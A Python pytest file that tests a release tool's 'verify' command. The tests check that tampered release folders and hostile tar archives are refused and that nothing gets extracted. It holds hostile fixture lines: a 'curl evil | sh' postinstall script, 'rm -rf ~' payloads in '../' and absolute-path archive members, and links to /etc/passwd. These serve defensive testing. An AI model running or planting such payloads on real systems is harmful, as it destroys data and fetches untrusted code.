"""Tampered and hostile release packages through `cahp-edge verify`: refused in one line, nothing extracted.

Archives are checked member by member before anything is written; a refused archive must leave no
file anywhere (checked by snapshotting the whole test folder, including where '../' would point).
"""

from __future__ import annotations

import gzip
import io
import shutil
import tarfile
from pathlib import Path

import pytest

from cahp_edge.release import package
from tests.hostile.support import fails_clean, run_cli


@pytest.fixture
def release(onnx_pkg, tmp_path) -> package.Release:
    files = {p.name: p for p in onnx_pkg.iterdir() if p.is_file()}
    return package.write_release(tmp_path / "dist", "x86-64-avx2", files, {"stages": {"prune": {"key": "k"}}})


def _verify(path: Path) -> list:
    return ["verify", path, "--no-smoke"]


def test_good_release_verifies(release, capsys):
    for p in (release.dir, release.tarball):
        r = run_cli(_verify(p), capsys)
        assert r.code == 0 and "OK" in r.out, r.err


def test_missing_file(release, tmp_path, capsys):
    (release.dir / "tokenizer.json").unlink()
    fails_clean(_verify(release.dir), capsys, "1 missing (tokenizer.json)", tmp_path)


def test_changed_file(release, tmp_path, capsys):
    m = release.dir / "model.onnx"
    raw = bytearray(m.read_bytes())
    raw[len(raw) // 2] ^= 0x01  # one flipped bit
    m.write_bytes(bytes(raw))
    fails_clean(_verify(release.dir), capsys, "1 changed (model.onnx)", tmp_path)


def test_extra_file(release, tmp_path, capsys):
    (release.dir / "postinstall.sh").write_text("curl evil | sh\n")
    fails_clean(_verify(release.dir), capsys, "1 extra (postinstall.sh)", tmp_path)


def test_file_replaced_by_symlink(release, tmp_path, capsys):
    outside = tmp_path / "outside.json"
    shutil.copy(release.dir / "config.json", outside)  # same content: only the link gives it away
    (release.dir / "config.json").unlink()
    (release.dir / "config.json").symlink_to(outside)
    fails_clean(_verify(release.dir), capsys, "1 symlinked (config.json)", tmp_path)


def test_sums_missing(release, tmp_path, capsys):
    (release.dir / "SHA256SUMS").unlink()
    fails_clean(_verify(release.dir), capsys, "has no SHA256SUMS", tmp_path)


def test_sums_line_escapes_package(release, tmp_path, capsys):
    with open(release.dir / "SHA256SUMS", "a") as f:
        f.write(f"{'0' * 64}  ../../etc/passwd\n")
    fails_clean(_verify(release.dir), capsys, "names an unsafe path", tmp_path)


def test_manifest_and_sums_rewritten_together_disagree(release, tmp_path, capsys):
    """A tamperer who fixes SHA256SUMS after changing a file still trips over the manifest's table."""
    from cahp_edge.fsutil import sha256_file

    d = release.dir
    (d / "eval.jsonl").write_text('{"label": 0, "text": "w1"}\n')
    lines = [
        f"{sha256_file(d / 'eval.jsonl')}  eval.jsonl" if ln.endswith(" eval.jsonl") else ln
        for ln in (d / "SHA256SUMS").read_text().splitlines()
    ]
    (d / "SHA256SUMS").write_text("\n".join(lines) + "\n")
    fails_clean(_verify(d), capsys, "manifest.json and SHA256SUMS disagree", tmp_path)


def test_package_path_missing(tmp_path, capsys):
    fails_clean(_verify(tmp_path / "dist" / "gone.tar.gz"), capsys, "package not found", tmp_path)


# ---- hostile archives ---------------------------------------------------------------------------------
def _tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    with tarfile.open(path, "w:gz") as tf:
        for info, data in members:
            if data is not None:
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
            else:
                tf.addfile(info)
    return path


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    ti = tarfile.TarInfo(name)
    ti.type, ti.linkname, ti.mode = kind, link, 0o644
    return ti


def _release_members(release: package.Release) -> list:
    out = [(_member("x86-64-avx2", tarfile.DIRTYPE), None)]
    for p in sorted(release.dir.iterdir()):
        out.append((_member(f"x86-64-avx2/{p.name}"), p.read_bytes()))
    return out


HOSTILE = {
    "dotdot_member": (lambda: (_member("x86-64-avx2/../../evil.sh"), b"rm -rf ~\n"), "'..' component"),
    "absolute_member": (lambda: (_member("/tmp/cahp-hostile-abs-evil.sh"), b"rm -rf ~\n"), "absolute path"),
    "symlink_member": (
        lambda: (_member("x86-64-avx2/link", tarfile.SYMTYPE, "/etc/passwd"), None),
        "symbolic link",
    ),
    "hardlink_member": (
        lambda: (_member("x86-64-avx2/hard", tarfile.LNKTYPE, "/etc/passwd"), None),
        "hard link",
    ),
    "device_member": (lambda: (_member("x86-64-avx2/dev", tarfile.CHRTYPE), None), "device file"),
    "fifo_member": (lambda: (_member("x86-64-avx2/fifo", tarfile.FIFOTYPE), None), "FIFO"),
    "duplicate_member": (lambda: (_member("x86-64-avx2/model.onnx"), b"second copy"), "duplicate member"),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_archive_member(case, release, tmp_path, capsys):
    make, msg = HOSTILE[case]
    arc = _tar(tmp_path / "evil.tar.gz", [*_release_members(release), make()])
    fails_clean(_verify(arc), capsys, ["refusing to extract evil.tar.gz", msg], tmp_path)
    assert not Path("/tmp/cahp-hostile-abs-evil.sh").exists()


def test_symlink_then_write_through_it(release, tmp_path, capsys):
    """The classic: a link to outside, then a regular file 'inside' the link."""
    arc = _tar(
        tmp_path / "evil.tar.gz",
        [
            (_member("x86-64-avx2", tarfile.DIRTYPE), None),
            (_member("x86-64-avx2/out", tarfile.SYMTYPE, str(tmp_path / "victim")), None),
            (_member("x86-64-avx2/out/owned.txt"), b"owned"),
        ],
    )
    (tmp_path / "victim").mkdir()
    fails_clean(_verify(arc), capsys, "symbolic link", tmp_path)
    assert list((tmp_path / "victim").iterdir()) == []


def test_truncated_archive(release, tmp_path, capsys):
    arc = tmp_path / "cut.tar.gz"
    raw = release.tarball.read_bytes()
    arc.write_bytes(raw[: len(raw) // 2])
    fails_clean(_verify(arc), capsys, "truncated or corrupt", tmp_path, code=1)


def test_not_an_archive(tmp_path, capsys):
    arc = tmp_path / "release.tar.gz"
    arc.write_bytes(b"<html>404 Not Found</html>")
    fails_clean(_verify(arc), capsys, "not a readable tar archive", tmp_path)


def test_archive_with_two_roots(release, tmp_path, capsys):
    members = [*_release_members(release), (_member("other/readme.txt"), b"hi")]
    arc = _tar(tmp_path / "two.tar.gz", members)
    fails_clean(_verify(arc), capsys, "does not hold one release folder", tmp_path)


def test_member_claiming_9_gib(tmp_path, capsys):
    """A header claiming 9 GiB with no data behind it: refused before anything is written."""
    arc = tmp_path / "bomb.tar.gz"
    info = _member("pkg/huge.bin")
    info.size = 9 << 30
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        tf.addfile(_member("pkg", tarfile.DIRTYPE))
        tf.addfile(info)  # header only: no data follows
    arc.write_bytes(gzip.compress(buf.getvalue()))
    # the declared size is checked before any data is read
    fails_clean(_verify(arc), capsys, "would unpack to 9.0 GiB (limit 8 GiB)", tmp_path, code=1)


def test_verify_folder_that_is_not_a_release(tmp_path, capsys):
    (tmp_path / "stuff").mkdir()
    (tmp_path / "stuff" / "model.onnx").write_bytes(b"x")
    fails_clean(_verify(tmp_path / "stuff"), capsys, "has no SHA256SUMS", tmp_path)
